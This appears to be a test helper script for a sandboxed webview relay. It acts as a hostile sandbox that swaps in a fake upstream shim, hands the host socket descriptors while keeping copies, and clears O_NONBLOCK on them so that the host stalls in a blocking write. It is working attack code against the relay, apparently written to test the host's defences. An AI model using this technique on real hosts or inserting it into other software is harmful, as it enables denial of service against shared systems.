"""A sandbox that tries to block the host's event loop through an app connection.

Usage (inside a sandbox): flag_thief.py VICTIM_PORT GOOD_PORT

It serves two apps: ``GOOD_PORT`` answers every request ``ok``; ``VICTIM_PORT`` reads
a little of each connection and then nothing more. It registers both, then replaces the
shim at ``upstream.sock`` with its own, which hands the host a socket connected to the
requested port (a handoff that passes every check) and keeps a copy. When the victim's
first bytes arrive, the thief clears ``O_NONBLOCK`` on every copy it holds (a flag of
the open file, which the host shares), reads 256 KiB (so that the host's next write
goes out at once, and no longer waits for room) and stops reading: a host that adopted
the socket is now in a blocking ``write()`` to an app that never reads.

Prints ``READY <json>`` with both apps' URLs, then ``CLEARED <n>`` (the copies it made
blocking) once the victim has read its 256 KiB; then waits for the file ``release`` in
the working directory (a FIFO), closes everything and prints ``HANDOFFS <n>``.
"""

from __future__ import annotations

import array
import fcntl
import json
import os
import select
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

RUNTIME = Path("/run/ags-webview-relay")
HANDOFF_ACK = b'{"ok":true,"stream":1,"handoff":1}\n'
# What the victim reads before it stops: enough to make room in the host's socket.
VICTIM_READS = 256 * 1024

copies: list[socket.socket] = []
victims: list[socket.socket] = []
handoffs = 0
lock = threading.Lock()


class Ok(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, format: str, *args: object) -> None:
        return


def register(port: int) -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(10)
        sock.connect(str(RUNTIME / "relay.sock"))
        sock.sendall(json.dumps({"type": "register", "port": port, "base_path": "/"}).encode())
        sock.sendall(b"\n")
        data = b""
        while chunk := sock.recv(4096):
            data += chunk
    return str(json.loads(data)["url"])


def victim(listener: socket.socket) -> None:
    """Accept; on the first bytes make every copy blocking, read a little, then stop."""
    while True:
        conn, _ = listener.accept()
        victims.append(conn)
        select.select([conn], [], [])
        with lock:
            for copy in copies:
                flags = fcntl.fcntl(copy.fileno(), fcntl.F_GETFL)
                fcntl.fcntl(copy.fileno(), fcntl.F_SETFL, flags & ~os.O_NONBLOCK)
            cleared = len(copies)
        read = 0
        while read < VICTIM_READS:
            chunk = conn.recv(VICTIM_READS - read)
            if not chunk:
                break
            read += len(chunk)
        print(f"CLEARED {cleared}", flush=True)


def fake_shim(listener: socket.socket) -> None:
    """Answer every stream opening with a correct handoff, keeping a copy."""
    global handoffs
    while True:
        conn, _ = listener.accept()
        with conn:
            line = b""
            while not line.endswith(b"\n"):
                chunk = conn.recv(4096)
                if not chunk:
                    break
                line += chunk
            if not line.endswith(b"\n"):
                continue
            port = int(json.loads(line)["port"])
            app = socket.create_connection(("127.0.0.1", port))
            with lock:
                copies.append(app)
                handoffs += 1
            rights = array.array("i", [app.fileno()])
            conn.sendmsg([HANDOFF_ACK], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])


def main() -> None:
    victim_port, good_port = int(sys.argv[1]), int(sys.argv[2])
    good = ThreadingHTTPServer(("127.0.0.1", good_port), Ok)
    threading.Thread(target=good.serve_forever, daemon=True).start()
    listener = socket.create_server(("127.0.0.1", victim_port))
    threading.Thread(target=victim, args=(listener,), daemon=True).start()
    urls = {"victim_url": register(victim_port), "good_url": register(good_port)}
    upstream = RUNTIME / "upstream.sock"
    upstream.unlink()
    shim = socket.socket(socket.AF_UNIX)
    shim.bind(str(upstream))
    shim.listen(64)
    threading.Thread(target=fake_shim, args=(shim,), daemon=True).start()
    print("READY " + json.dumps(urls), flush=True)
    Path("release").read_text()
    with lock:
        for sock in [*victims, *copies]:
            sock.close()
        print(f"HANDOFFS {handoffs}", flush=True)


if __name__ == "__main__":
    main()
